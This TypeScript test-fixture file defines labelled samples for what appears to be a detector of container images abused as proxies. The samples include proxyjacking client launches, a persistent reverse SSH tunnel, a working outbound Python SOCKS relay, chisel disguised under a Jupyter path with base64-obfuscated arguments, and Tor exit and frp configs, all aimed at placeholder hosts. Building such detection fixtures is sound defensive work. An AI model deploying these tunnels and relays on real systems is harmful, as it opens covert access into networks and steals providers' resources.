import { base64 } from './bytes.ts';
import { program } from './program.ts';
import { ofFamily } from './sample.ts';

export const samples = ofFamily('proxy', [
  {
    id: 'proxy-line-resale',
    level: 'easy',
    technique: 'Clients that resell the line, several at once (proxyjacking, Sysdig 2023; T1496.002).',
    files: {
      'start.sh': `#!/bin/sh
/app/Cli start accept --token ${'t'.repeat(44)} &
/app/pawns-cli -email=a@example.invalid -password=x -device-name=gpu1 -accept-tos &
/app/psclient --api-key ${'k'.repeat(32)} &
exec /app/earnapp start
`,
      'app/Cli': program(['Traffmonetizer', 'traffmonetizer.example.invalid', 'start accept --token']),
    },
    config: { Cmd: ['/start.sh'] },
    expect: 'malicious',
    where: 'start.sh',
  },
  {
    id: 'proxy-environment',
    level: 'ordinary',
    technique: 'Two such clients by the names of their variables, in the image config (T1496.002).',
    files: { 'usr/bin/peer': program(['peer2profit', 'P2P_EMAIL', 'packetstream', 'CID']) },
    config: {
      Entrypoint: ['/usr/bin/peer'],
      Env: ['P2P_EMAIL=a@example.invalid', 'CID=aaaa', 'PS_IS_DOCKER=true'],
    },
    expect: 'malicious',
    where: 'usr/bin/peer',
  },
  {
    id: 'proxy-frp',
    level: 'ordinary',
    technique: 'frpc opens the network of the provider from outside (T1572).',
    files: {
      'etc/frp/frpc.toml': `serverAddr = "192.0.2.250"
serverPort = 7000
auth.token = "x"
[[proxies]]
name = "ssh"
type = "tcp"
localIP = "172.17.0.1"
localPort = 22
remotePort = 6022
[[proxies]]
name = "socks"
type = "tcp"
remotePort = 6080
[proxies.plugin]
type = "socks5"
`,
      'usr/bin/web': program(['frpc is the client of frp', 'start proxy success', 'login to server success']),
    },
    config: { Cmd: ['/usr/bin/web', '-c', '/etc/frp/frpc.toml'] },
    expect: 'suspicious',
    where: 'etc/frp/frpc.toml',
  },
  {
    id: 'proxy-ssh-reverse',
    level: 'easy',
    technique: 'A tunnel back by ssh -R, kept open (T1572).',
    files: {
      'srv/keep.sh': `#!/bin/sh
while :; do ssh -N -R 0.0.0.0:2222:172.17.0.1:22 -D 1080 -o StrictHostKeyChecking=no -o ServerAliveInterval=30 -i /srv/.k t@203.0.113.99; sleep 5; done
`,
    },
    config: { Cmd: ['/srv/keep.sh'] },
    expect: 'malicious',
    where: 'srv/keep.sh',
  },
  {
    id: 'proxy-socks-python',
    level: 'hard',
    technique: 'A SOCKS relay of a few lines that dials out, so that no port is open (T1090.002).',
    files: {
      'app/cache.py': `import socket, struct, threading
def pump(a, b):
    while (d := a.recv(65536)): b.sendall(d)
while True:
    c = socket.create_connection(("192.0.2.33", 443))
    v, n = c.recv(2); c.recv(n); c.sendall(b"\\x05\\x00")
    v, cmd, _, at = c.recv(4)
    h = socket.inet_ntoa(c.recv(4)) if at == 1 else c.recv(c.recv(1)[0]).decode()
    p, = struct.unpack(">H", c.recv(2))
    r = socket.create_connection((h, p)); c.sendall(b"\\x05\\x00\\x00\\x01" + b"\\0" * 6)
    for x in ((c, r), (r, c)): threading.Thread(target=pump, args=x, daemon=True).start()
`,
    },
    config: { Cmd: ['python3', '/app/cache.py'] },
    expect: 'suspicious',
    where: 'app/cache.py',
  },
  {
    id: 'proxy-chisel-encoded',
    level: 'hard',
    technique: 'chisel under another name, its arguments in base64 (T1572, T1036.005).',
    files: {
      'usr/lib/jupyter/kernel': program(['chisel', 'chisel-v3', 'CHISEL_KEY', 'R:socks', 'chshare.Logger']),
      'entry.sh': `#!/bin/sh\n/usr/lib/jupyter/kernel $(echo ${base64('client --keepalive 25s https://t.example.invalid R:socks')} | base64 -d) & exec jupyter lab --ip 0.0.0.0\n`,
    },
    config: { Entrypoint: ['/entry.sh'] },
    expect: 'malicious',
    where: 'usr/lib/jupyter/kernel',
  },
  {
    id: 'proxy-tor-exit',
    level: 'ordinary',
    technique: 'The provider becomes an exit of Tor (T1090.003).',
    files: {
      'etc/tor/torrc':
        'ORPort 443\nExitRelay 1\nExitPolicy accept *:*\nSocksPort 0.0.0.0:9050\nNickname gpu\nDisableDebuggerAttachment 1\n',
    },
    config: { Cmd: ['tor', '-f', '/etc/tor/torrc'] },
    expect: 'suspicious',
    where: 'etc/tor/torrc',
  },
]);
